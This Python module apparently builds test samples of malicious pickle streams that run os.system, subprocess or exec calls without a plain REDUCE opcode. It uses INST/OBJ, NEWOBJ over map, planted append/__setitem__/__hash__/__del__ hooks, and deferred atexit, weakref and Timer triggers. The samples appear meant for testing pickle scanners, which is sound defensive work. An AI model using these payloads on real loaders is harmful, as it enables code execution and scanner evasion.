"""p-call: the ways in which a pickle can call without a plain REDUCE."""
from .assemble import *
from .sample import Shelf

shelf = Shelf("p-call")
add = shelf.add
SHELL = text(COMMAND)
HOLDER = sg("argparse", "Namespace")
PARTIAL = new(sg("functools", "partial"), SYSTEM, SHELL)


def mapped(kind="map", package="builtins"):
    """An iterator that makes the call when it is asked for its first item."""
    return new(sg(package, kind), SYSTEM, lst(SHELL))


add("inst", "text", MARK + string_line(f"'{COMMAND}'") + inst("os", "system") + STOP, "INST")
add("inst", "proto4", PROTO4 + MARK + SHELL + inst("os", "system") + STOP, "INST under PROTO 4")
add("inst", "obj", PROTO4 + MARK + SYSTEM + SHELL + OBJ + STOP, "OBJ, its binary sibling")

add("newobj-map", "tuple", PROTO4 + new(sg("builtins", "tuple"), mapped()) + STOP,
    "NEWOBJ of map, then NEWOBJ of tuple iterates it: no REDUCE at all")
add("newobj-map", "bytes", PROTO4 + new(sg("builtins", "bytes"), mapped()) + STOP,
    "bytes iterates as well")
add("newobj-map", "frozenset", PROTO4 + new(sg("builtins", "frozenset"), mapped()) + STOP,
    "frozenset iterates as well")
add("newobj-map", "newobj_ex", PROTO4 + sg("builtins", "tuple") + tup(mapped()) + EMPTY_DICT
    + NEWOBJ_EX + STOP, "the same by NEWOBJ_EX")


def planted(name, function):
    """An argparse.Namespace whose instance attribute `name` is `function`."""
    return new(HOLDER) + dic(text(name), function) + BUILD


def on_class(name, function):
    return slots(HOLDER, text(name), function) + POP


add("append-as-call", "append", PROTO4 + planted("append", SYSTEM) + SHELL + APPEND + STOP,
    "APPEND on what is no list calls obj.append(x)")
add("append-as-call", "extend",
    PROTO4 + planted("extend", sg("subprocess", "call")) + MARK + text("echo") + text(MARKER)
    + APPENDS + STOP, "APPENDS calls obj.extend([...])")
add("append-as-call", "additems", PROTO4 + planted("add", SYSTEM) + MARK + SHELL + ADDITEMS + STOP,
    "ADDITEMS on what is no set calls obj.add(x)")

add("setitem-as-call", "exec",
    PROTO4 + on_class("__setitem__", sg("builtins", "exec")) + new(HOLDER) + text(CODE)
    + EMPTY_DICT + SETITEM + STOP, "obj[code] = {} with __setitem__ = exec")

add("implicit-hash", "dict_key",
    PROTO4 + on_class("__hash__", PARTIAL) + EMPTY_DICT + new(HOLDER) + NONE + SETITEM + STOP,
    "becoming a dict key calls the planted __hash__")
add("implicit-hash", "set",
    PROTO4 + on_class("__hash__", PARTIAL) + EMPTY_SET + MARK + new(HOLDER) + ADDITEMS + STOP,
    "becoming a member of a set does so too")
add("implicit-hash", "frozenset",
    PROTO4 + on_class("__hash__", PARTIAL) + MARK + new(HOLDER) + FROZENSET + STOP,
    "and of a frozenset")

add("implicit-del", "pop",
    PROTO4 + on_class("__del__", PARTIAL) + new(HOLDER) + POP + NONE + STOP,
    "POP drops the last reference, the planted __del__ runs")

add("set-name-hook", "newobj_type",
    PROTO4 + on_class("__set_name__", PARTIAL) + new(sg("builtins", "type"), text("X"),
    EMPTY_TUPLE, dic(text("field"), new(HOLDER))) + STOP,
    "making a class runs __set_name__ of its attributes (here the argument count is wrong)",
    executes=False)
add("set-name-hook", "reduce_type",
    PROTO4 + on_class("__set_name__", sg("operator", "setitem")) + call(sg("builtins", "type"),
    text("X"), EMPTY_TUPLE, dic(text("field"), new(HOLDER))) + STOP,
    "the same by REDUCE of type", executes=False)

add("call-by-iteration", "list", PROTO4 + call(sg("builtins", "list"), mapped()) + STOP,
    "list() iterates a map")
add("call-by-iteration", "any", PROTO4 + call(sg("builtins", "any"), mapped()) + STOP,
    "any() iterates a map")
add("call-by-iteration", "filter",
    PROTO4 + call(sg("builtins", "list"), mapped("filter")) + STOP, "filter calls for every item")
add("call-by-iteration", "deque",
    PROTO4 + call(sg("collections", "deque"), call(sg("itertools", "starmap"), SYSTEM,
    lst(tup(SHELL)))) + STOP, "deque over itertools.starmap")
add("call-by-iteration", "counter",
    PROTO4 + call(sg("collections", "Counter"), mapped()) + STOP, "Counter counts a map")
add("call-by-iteration", "join",
    PROTO4 + call(sg("builtins", "str.join"), text(","), call(sg("builtins", "map"),
    sg("subprocess", "getoutput"), lst(text(f"touch {MARKER}.txt")))) + STOP,
    "str.join over a map")

add("deferred", "atexit", PROTO4 + call(sg("atexit", "register"), SYSTEM, SHELL) + STOP,
    "runs when the interpreter ends")
add("deferred", "finalize",
    PROTO4 + call(sg("weakref", "finalize"), HOLDER, SYSTEM, SHELL) + STOP,
    "weakref.finalize, runs at the end as well")
add("deferred", "timer",
    PROTO4 + call(sg("threading", "Timer.start"), call(sg("threading", "Timer"), binfloat(0.05),
    SYSTEM, tup(SHELL))) + STOP, "a thread, a twentieth of a second later")
add("deferred", "gc_callback",
    PROTO4 + sg("gc", "callbacks") + call(sg("functools", "partial"), sg("builtins", "print"),
    text(MARKER)) + APPEND + STOP,
    "APPEND to the callbacks of the garbage collector: nothing is called")
add("deferred", "excepthook",
    PROTO4 + slots(call(sg("importlib", "import_module"), text("sys")), text("excepthook"),
    call(sg("functools", "partial"), sg("builtins", "print"), text(MARKER))) + b"\xff",
    "sys.excepthook is replaced, then the stream breaks on purpose", loader="pickle-uncaught")
